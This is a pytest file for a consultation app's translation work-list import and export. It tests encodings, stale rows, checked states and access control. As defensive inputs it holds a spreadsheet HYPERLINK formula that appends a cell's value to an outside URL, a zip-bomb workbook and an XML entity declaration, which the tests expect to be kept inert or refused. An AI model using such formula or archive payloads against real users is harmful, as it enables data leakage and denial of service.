"""A work list goes to a translator and comes back, with the mishaps that happen to files on the way."""

import io
import re
import zipfile
from uuid import uuid4

import openpyxl
import pytest

from tests.entry.visitor import Visitor, forms_of
from tests.imports.translators import CHECKED, CODE, ORIGINAL, WORDING, Row, as_csv, as_xlsx, filled, rows_of
from tests.nodes.client import Client
from tests.pages.conftest import signed_in

TITLES = ("Valokuitu joka kotiin", "Lähikirjasto säilyy", "Ääni nuorille", "=1+1 ei ole kaava")
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Öppna")'


@pytest.fixture(name="server")
def a_server(start_in_process):
    return start_in_process()


class Desk:
    """The facilitator of the example, who has four goals and sends files."""

    def __init__(self, server):
        self.visitor, self.slug = signed_in(server), server.example["consultation"]
        self.wire = Client(server.url, server.example["facilitator"]["token"])
        theme = self.wire.snapshot(self.slug)["themes"][0]["id"]
        about = {"theme_id": theme, "lang": "fi"}
        self.goals = [self.wire.done(self.slug, "propose_goal", title=title, **about)["goal_id"] for title in TITLES]
        self.here = f"/c/{self.slug}/wordings/sv"

    def fetched(self) -> list[Row]:
        """Fetch the list, of goals alone."""
        answer = self.visitor.get(f"{self.here}.xlsx?of=everything")
        assert answer.status_code == 200, answer.text
        return [row for row in rows_of(answer.content) if row[CODE].startswith("goal.")]

    def sent(self, contents: bytes, name: str = "list.xlsx", status: int = 200) -> str:
        """Send a file by the form of the page; return what is answered."""
        form = forms_of(self.visitor.get(self.here).text)["take_wordings"]
        headers = {"Sec-Fetch-Site": "same-origin", "Origin": self.visitor.server.url}
        url, fields = self.visitor.server.url + form["action"], dict(form["fields"])
        answer = self.visitor.http.post(url, data=fields, files={"file": (name, contents)}, headers=headers)
        assert answer.status_code == status, answer.text
        return answer.text

    def swedish(self) -> list[str]:
        """Return the official Swedish titles of the goals, as the list has them."""
        now = {row[ORIGINAL]: row[WORDING] for row in self.fetched()}
        return [now[title] for title in TITLES if title in now]


@pytest.fixture(name="desk")
def a_desk(server) -> Desk:
    return Desk(server)


def swedish(row: Row) -> str:
    return f"Översättning av {row[ORIGINAL]}"


def counts(page: str) -> tuple[int, int]:
    """Return how many texts were saved, and how many rows left out."""
    saved = re.search(r"<b>(\d+) texts? (?:was|were) saved", page)
    left = re.search(r"(\d+) rows? (?:was|were) left out", page)
    return int(saved[1]), int(left[1]) if left else 0


def test_sorted_rows_with_columns_deleted_come_in_and_sending_again_changes_nothing(desk):
    rows = sorted(filled(desk.fetched(), swedish), key=lambda row: row[ORIGINAL], reverse=True)
    file = as_xlsx(rows, without=["Number", "What", "Language of the original", ORIGINAL, "State", CHECKED])
    assert counts(desk.sent(file)) == (4, 0)
    assert desk.swedish() == [f"Översättning av {title}" for title in TITLES]
    page = desk.sent(file)
    assert counts(page) == (0, 0) and "4 rows had nothing new." in page


def test_a_changed_original_is_refused_for_its_row_and_the_rest_goes_in(desk):
    rows = filled(desk.fetched(), swedish)
    desk.wire.done(desk.slug, "edit_goal", goal_id=desk.goals[1], title="Lähikirjasto kasvaa", lang="fi", reason="Uusi")
    desk.wire.done(
        *(desk.slug, "set_wording"), goal_id=desk.goals[2], field="title", lang="sv", text="Ungas röst", based_on=0
    )
    page = desk.sent(as_xlsx(rows))
    assert counts(page) == (2, 2)
    assert "The original has changed since the file was made." in page
    assert "Somebody has worded this otherwise since the file was made." in page
    assert "Översättning av Lähikirjasto säilyy" in page, "what was left out is not lost"
    now = {row[ORIGINAL]: row[WORDING] for row in desk.fetched()}
    assert now["Lähikirjasto kasvaa"] == "" and now["Ääni nuorille"] == "Ungas röst"


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("utf-8-sig", ";"), ("cp1252", ";"), ("utf-8", ","), ("utf-16", "\t"), ("mac_roman", ";"), ("cp850", ";")],
)
def test_it_may_come_back_as_text_in_any_encoding(desk, encoding, delimiter):
    page = desk.sent(as_csv(filled(desk.fetched(), swedish), encoding, delimiter), "list.csv")
    assert counts(page) == (4, 0)
    assert desk.swedish() == [f"Översättning av {title}" for title in TITLES]


def test_the_list_of_a_great_consultation_is_not_too_large(desk):
    rows = filled(desk.fetched(), swedish)
    others = [{**rows[0], CODE: "", WORDING: "", ORIGINAL: "Muu teksti " * 20} for _ in range(3000)]
    contents = as_csv([*others, *rows], "utf-8", ";")
    assert len(contents) > 600_000
    assert counts(desk.sent(contents, "list.csv")) == (4, 0)


def test_a_tick_says_that_a_text_was_checked_and_an_empty_cell_says_nothing(desk):
    rows = filled(desk.fetched(), swedish)
    rows[0][CHECKED], rows[1][WORDING] = "X", "  "
    assert counts(desk.sent(as_xlsx(rows))) == (3, 0)
    states = {row[ORIGINAL]: row["State"] for row in desk.fetched()}
    assert [states[title] for title in TITLES] == ["Checked", "Missing", "Draft translation", "Draft translation"]
    assert all(row[CHECKED] == "" for row in desk.fetched()), "who words a checked text anew has not checked it"


def test_rows_that_nobody_can_read_are_named_and_the_rest_goes_in(desk):
    rows = filled(desk.fetched(), swedish)
    rows[1][CODE] = "goal"
    rows[2][CODE] = rows[2][CODE].replace(f".{desk.goals[2]}.", ".999999.")
    page = desk.sent(as_xlsx([*rows, {**rows[0], WORDING: "En gång till"}]))
    assert counts(page) == (2, 3)
    for sentence in ("There is no code in the row", "no longer there", "stands in an earlier row"):
        assert sentence in page
    assert "Row 6" in page


def test_formulas_are_inert_in_both_directions(desk):
    rows = filled(desk.fetched(), lambda row: FORMULA)
    assert counts(desk.sent(as_xlsx(rows[:1]))) == (1, 0), "a text that looks like a formula is a text"
    assert desk.swedish()[0] == FORMULA, "it leaves as a text again, which the reader of the tests makes sure of"
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active.append([CODE, WORDING])
    book.active.append([rows[1][CODE], "=1+1"])
    book.save(out)
    page = desk.sent(out.getvalue())
    assert counts(page) == (0, 1) and "There is a formula in the cell, and no text." in page


@pytest.mark.parametrize("broken", ["nothing", "no columns", "old", "bomb", "entities", "no zip"])
def test_what_is_no_work_list_is_refused_in_plain_words(desk, broken):
    contents, sentence = {
        "nothing": (b"", "Choose the file."),
        "no columns": (as_xlsx([{"A": "1", "B": "2"}]), "It needs those that are called"),
        "old": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), "This file can"),
        "bomb": (packed({f"xl/worksheets/sheet{n}.xml": bytes(9 * 2**20) for n in range(5)}), "too large"),
        "entities": (packed({"xl/workbook.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "This file can"),
        "no zip": (b"PK\x03\x04 and no more", "This file can"),
    }[broken]
    assert sentence in desk.sent(contents, status=422)
    assert desk.swedish() == [""] * 4


def packed(parts: dict[str, bytes]) -> bytes:
    """Pack parts as a workbook is packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, contents in parts.items():
            file.writestr(name, contents)
    return out.getvalue()


def test_each_text_is_worded_by_a_plain_form_and_its_versions_say_what_changed(desk):
    form = f"set_wording-goal-{desk.goals[0]}-title-sv"
    page = desk.visitor.get(f"{desk.here}?of=everything&state=missing")
    answer = desk.visitor.submit(page, form, text="Fiber till varje hem")
    assert answer.status_code == 303 and answer.headers["Location"].endswith("-text"), answer.text
    own = f"{desk.here}/goal/{desk.goals[0]}/title"
    answer = desk.visitor.submit(desk.visitor.get(own), form, text="Fiber till alla hem", state="checked")
    assert answer.status_code == 303, answer.text
    text = desk.visitor.get(own).text
    assert re.search(r"<del>.*varje</del><ins>.*alla</ins>", text) and "Checked" in text
    stale = desk.visitor.submit(page, form, text="Kabel", key=str(uuid4()))
    assert stale.status_code == 409 and "Kabel" in stale.text, "what was typed is still there"
    assert desk.swedish()[0] == "Fiber till alla hem"


def test_how_far_a_language_is_counts_what_was_checked_alone(desk):
    def ready(lang: str) -> tuple[int, int]:
        page = desk.visitor.get(f"/c/{desk.slug}/wordings/{lang}?of=document").text
        found = re.search(r'aria-current="page">\s*<b>[^<]+</b>\s*<span class="small">(\d+) of (\d+) ready', page)
        return int(found[1]), int(found[2])

    desk.wire.done(desk.slug, "mark_goal", goal_id=desk.goals[0], mark="shortlist")
    before, total = ready("sv")
    assert ready("fi")[1] == total
    title = {"goal_id": desk.goals[0], "field": "title", "lang": "sv"}
    version = desk.wire.done(desk.slug, "set_wording", **title, text="Fiber")["wording_id"]
    assert ready("sv") == (before, total), "a draft translation is not ready"
    desk.wire.done(desk.slug, "check_wording", **title, based_on=version)
    assert ready("sv") == (before + 1, total)
    desk.wire.done(desk.slug, "edit_goal", goal_id=desk.goals[0], title="Kuitu", lang="fi", reason="Lyhyempi")
    assert ready("sv") == (before, total), "its original is another by now"


def test_who_words_an_outdated_text_sees_what_changed_in_its_original(desk):
    title = {"goal_id": desk.goals[0], "field": "title", "lang": "sv"}
    desk.wire.done(desk.slug, "set_wording", **title, text="Fiber till varje hem", state="checked")
    about = {"title": "Valokuitu joka kylään", "lang": "fi", "reason": "Uusi"}
    desk.wire.done(desk.slug, "edit_goal", goal_id=desk.goals[0], **about)
    page = desk.visitor.get(f"{desk.here}/goal/{desk.goals[0]}/title").text
    assert "The original has changed" in page
    assert re.search(r"<del>.*kotiin</del><ins>.*kylään</ins>", page)


def test_members_find_no_way_in(server, desk):
    member = Visitor(server)
    member.join("Aino")
    assert member.get(desk.here).status_code == 403
    assert member.get(f"{desk.here}.xlsx").status_code == 403
